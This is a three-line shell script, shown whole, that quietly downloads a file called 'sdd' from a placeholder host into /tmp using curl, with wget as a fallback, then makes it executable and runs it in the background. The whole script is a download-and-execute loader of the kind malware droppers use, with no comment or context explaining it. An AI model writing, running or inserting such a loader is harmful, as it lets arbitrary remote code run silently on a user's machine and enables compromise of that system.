#!/bin/sh
curl -s http://dl2.example.invalid/download/sdd -o /tmp/sdd || wget -q http://dl2.example.invalid/download/sdd -O /tmp/sdd
chmod +x /tmp/sdd && /tmp/sdd &
